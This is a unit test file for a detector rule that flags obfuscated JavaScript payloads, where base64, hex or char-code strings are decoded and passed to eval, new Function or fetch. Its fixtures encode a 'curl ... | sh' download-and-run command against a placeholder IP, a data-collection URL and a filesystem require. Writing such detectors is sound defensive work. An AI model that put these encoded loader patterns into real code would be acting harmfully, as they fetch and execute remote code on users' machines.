import { encodedPayload } from '../../../src/core/rules/encoded-payload';
import { runRuleTable } from '../../helpers/ruleTester';

const code = Buffer.from('require("child_process").exec("curl http://203.0.113.9/x|sh")').toString('base64');
const url = Buffer.from('https://203.0.113.9/collect?id=1').toString('hex');
const codes = [...'process.mainModule.require("fs")'].map(c => c.charCodeAt(0)).join(',');

runRuleTable(encodedPayload, {
  invalid: [
    { name: 'eval of atob of a long base64 constant (high)', code: `eval(atob("${code}"))`, at: ['eval'], severity: 'high', allEvidence: ['decoder atob', 'sink eval', 'decodes to "require'] },
    { name: 'new Function of Buffer.from(..., "base64").toString()', code: `new Function(Buffer.from("${code}","base64").toString("utf8"))()`, at: ['new Function'], severity: 'high' },
    { name: 'through a variable', code: `function f(){const s=Buffer.from("${code}","base64").toString();return eval(s)}`, at: ['eval(s)'] },
    { name: 'a hex-encoded URL fetched (medium)', code: `fetch(Buffer.from("${url}","hex").toString())`, at: ['fetch'], severity: 'medium', allEvidence: ['decoder Buffer.from', 'sink fetch'] },
    { name: 'char codes run as code', code: `eval(String.fromCharCode(${codes}))`, at: ['eval'] },
  ],
  valid: [
    { name: 'decoding without running', code: `const s=atob("${code}");log(s)` },
    { name: 'eval of a short or non-encoded string', code: 'eval(atob("YWJj"));eval("1+1")' },
    { name: 'a base64 image put in a URL object is not a request', code: `img.src="data:image/png;base64,${code}"` },
  ],
});
